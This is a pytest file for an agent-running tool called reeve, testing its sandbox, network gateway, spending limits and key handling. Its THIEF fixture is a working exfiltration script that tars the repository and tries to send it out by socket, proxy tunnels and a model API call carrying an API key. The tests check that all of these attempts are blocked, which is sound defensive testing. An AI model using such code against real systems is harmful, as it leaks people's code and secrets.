"""Attempts with a way out: real sandbox, real gateway, reeve's own model agent, and a scripted model on loopback."""

import json
import os
import signal
import socket
import subprocess
import time

import pytest
from project import REEVE, git, landed, leftovers, make_project
from test_recovery import facts
from test_stop import PATIENCE_SECONDS, output_of, wait_for
from test_talking import bodies, ended, reeve

from reeve.adapters.playback.seen import digest_of_key
from reeve.adapters.playback.server import PlaybackServer

REAL_KEY = "sk-real-and-secret"
SETTINGS = """\
land = "passed"
workers = 3
attempts = 1
default_agents = ["mine"]

[agents.mine]
kind = "model"
model = "anthropic:claude-sonnet-4-5"

[providers.anthropic]
base_url = "{address}"
key_env = "MODEL_KEY"
{more}
"""


def modelled(tmp_path, server, count=1, more=""):
    """A project whose tasks are done by a model that plays its script: it corrects the file that a task names."""
    repo = make_project(tmp_path, count)
    (repo / "reeve.toml").write_text(SETTINGS.format(address=server.address, more=more))
    for number in range(count):
        task = repo / "backlog" / f"t{number:02}.md"
        task.write_text(task.read_text() + f"\n[[playback:t{number:02}]]\n")
    git(repo, "add", ".")
    git(repo, "-c", "user.name=P", "-c", "user.email=p@x", "commit", "-q", "-m", "tasks")
    return repo


def mends(name, *before):
    edit = {"edit": {"path": f"{name}.txt", "old": "wrong", "new": "right"}}
    return {"turns": [*before, [{"read": {"path": f"{name}.txt"}}], [edit], [{"text": "Mended."}]]}


def start(repo):
    env = {**os.environ, "MODEL_KEY": REAL_KEY}
    return subprocess.Popen(
        [*REEVE, "run"], cwd=repo, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env
    )


def everything_stored(repo):
    """All that a state folder holds, and what attempts have printed, as bytes."""
    found = [path.read_bytes() for path in (repo / ".reeve").rglob("*") if path.is_file() and not path.is_symlink()]
    return b"".join([*found, json.dumps(facts(repo)).encode()])


def test_a_model_agent_lands_a_commit_that_names_it_and_never_holds_the_key(tmp_path):
    with PlaybackServer({"t00": mends("t00")}, key=REAL_KEY) as server:
        repo = modelled(tmp_path, server)
        code, said = ended(start(repo))
        assert code == 0, said
        (attempt,) = bodies(repo, "attempt")
        requests = bodies(repo, "request")
        assert {each.key for each in server.seen} == {digest_of_key(REAL_KEY)}
    assert landed(repo) == ["t00"]
    agent = git(repo, "log", "-1", "--format=%(trailers:key=Agent,valueonly)", "reeve/landed")
    assert agent.startswith("mine ")
    assert "claude-sonnet-4-5" in agent
    assert [each["outcome"] for each in requests] == ["answered"] * 3
    tokens = sum(each["input_tokens"] + each["output_tokens"] for each in requests)
    assert attempt["tokens"] == tokens > 0
    assert attempt["usd"] == pytest.approx(sum(each["usd"] for each in requests))
    assert REAL_KEY.encode() not in everything_stored(repo)
    assert leftovers(repo / ".reeve") == []


def test_ten_cents_stop_an_agent_that_would_spend_a_dollar(tmp_path):
    dear = [[{"run": {"command": "true"}}, {"usage": {"input": 1_000, "output": 4_000}}] for _ in range(20)]  # 6 cents
    with PlaybackServer({"t00": mends("t00", *dear)}, key=REAL_KEY) as server:
        repo = modelled(tmp_path, server, more="[limits]\nusd = 0.10\n")
        code, said = ended(start(repo))
        answered = [each for each in server.seen if each.status == 200]
    assert code == 1, said
    (attempt,) = bodies(repo, "attempt")
    assert attempt["ending"] == "budget-limit"
    assert attempt["usd"] <= 0.13
    assert len(answered) <= 2
    assert bodies(repo, "request")[-1]["outcome"] in ("over-budget", "cut-off")
    assert "0.1" in attempt["reason"]


THIEF = """\
import http.client, os, socket, subprocess, urllib.request

tree = subprocess.run(["tar", "-c", "."], stdout=subprocess.PIPE).stdout
elsewhere = ("127.0.0.1", {port})

def attempt(what):
    try:
        what()
        print("sent")
    except Exception as error:
        print(type(error).__name__, str(error)[:100])

def straight():
    socket.create_connection(elsewhere, 5).sendall(tree)

def tunnel(host):
    def go():
        connection = http.client.HTTPConnection("127.0.0.1", 3128, timeout=10)
        connection.set_tunnel(*host)
        connection.request("POST", "/", tree)
    return go

def through_the_proxy():
    urllib.request.urlopen(urllib.request.Request("http://127.0.0.1:3128/", tree), timeout=10).read()

def as_a_model():
    request = urllib.request.Request("http://127.0.0.1:8399/anthropic/v1/files", tree)
    request.add_header("x-api-key", os.environ.get("ANTHROPIC_API_KEY", ""))
    urllib.request.urlopen(request, timeout=10).read()

for way in (straight, tunnel(elsewhere), tunnel(("localhost", {port})), tunnel(("listed.example", 443)), through_the_proxy, as_a_model):
    attempt(way)
open(open(os.environ["REEVE_INSTRUCTION_FILE"]).readline().strip(), "w").write("right")
"""


def test_who_posts_the_repository_to_another_host_sends_nothing(tmp_path):
    with PlaybackServer({}, key=REAL_KEY) as server, socket.socket() as elsewhere:
        elsewhere.bind(("127.0.0.1", 0))
        elsewhere.listen()
        hosts = '[network]\nhosts = ["pypi.invalid:443"]\n'
        repo = modelled(
            tmp_path,
            server,
            more=f'{hosts}[agents.thief]\nkind = "command"\ncommand = "python3 thief.py"\nproviders = ["anthropic"]\n',
        )
        (repo / "reeve.toml").write_text((repo / "reeve.toml").read_text().replace('["mine"]', '["thief"]'))
        (repo / "thief.py").write_text(THIEF.format(port=elsewhere.getsockname()[1]))
        git(repo, "add", ".")
        git(repo, "-c", "user.name=P", "-c", "user.email=p@x", "commit", "-q", "-m", "thief")
        code, said = ended(start(repo))
        assert code == 0, said
        elsewhere.setblocking(False)
        with pytest.raises(BlockingIOError):
            elsewhere.accept()  # nobody ever connected
        assert server.seen == ()
    assert "sent" not in [line.split()[0] for line in reeve(repo, "log", "t00.1").splitlines() if line.strip()]
    refused = bodies(repo, "request")
    assert {each["outcome"] for each in refused} == {"refused"}
    assert len(refused) >= 4
    assert all(each["bytes_sent"] == 0 for each in refused)


def test_a_kill_during_three_attempts_loses_none_of_them(tmp_path):
    waits = [[{"delay": {"before_seconds": 3}}, {"run": {"command": "true"}}]]
    scripts = {f"t{number:02}": mends(f"t{number:02}", *waits) for number in range(3)}
    with PlaybackServer(scripts, key=REAL_KEY) as server:
        repo = modelled(tmp_path, server, count=3)
        first = start(repo)
        wait_for(lambda: len(server.seen) + len(under_way(repo)) >= 3 and len(under_way(repo)) == 3, first)
        first.send_signal(signal.SIGKILL)
        first.communicate()
        code, said = ended(start(repo))
    assert code == 0, said
    assert sorted(landed(repo)) == ["t00", "t01", "t02"]
    stored = facts(repo)
    for kind in ("order", "attempt"):
        assert sorted(key for found, key, _ in stored if found == kind) == ["t00.1", "t01.1", "t02.1"]
    assert {each["ending"] for each in bodies(repo, "attempt")} == {"finished"}
    assert leftovers(repo / ".reeve") == []


def under_way(repo):
    return [path for path in (repo / ".reeve" / "attempts").glob("*/output") if path.exists()]


def test_a_stopped_attempt_is_gone_within_two_seconds_with_everything_it_started(tmp_path):
    script = {"turns": [[{"run": {"command": "echo begun; sleep 3000 & sleep 4000"}}], [{"text": "done"}]]}
    with PlaybackServer({"t00": script}, key=REAL_KEY) as server:
        repo = modelled(tmp_path, server)
        process = start(repo)
        wait_for(lambda: "sleep 3000" in output_of(repo, "t00.1"), process)
        began = time.monotonic()
        assert json.loads(reeve(repo, "stop", "t00.1", "--json"))["attempts"] == [
            {"id": "t00.1", "ending": "interrupted"}
        ]
        took = time.monotonic() - began
        process.send_signal(signal.SIGINT)
        assert ended(process)[0] == 130
    assert took < 20  # two seconds on a machine that does nothing else; `make bench` measures it
    assert leftovers(repo / ".reeve") == []


def test_an_agent_whose_provider_has_no_key_is_refused_before_anything_starts(tmp_path):
    with PlaybackServer({}) as server:
        repo = modelled(tmp_path, server)
        done = subprocess.run(
            [*REEVE, "run"], cwd=repo, capture_output=True, text=True, check=False, timeout=PATIENCE_SECONDS
        )
        assert server.seen == ()
    assert done.returncode == 2
    assert "set MODEL_KEY" in done.stderr
    assert bodies(repo, "order") == []
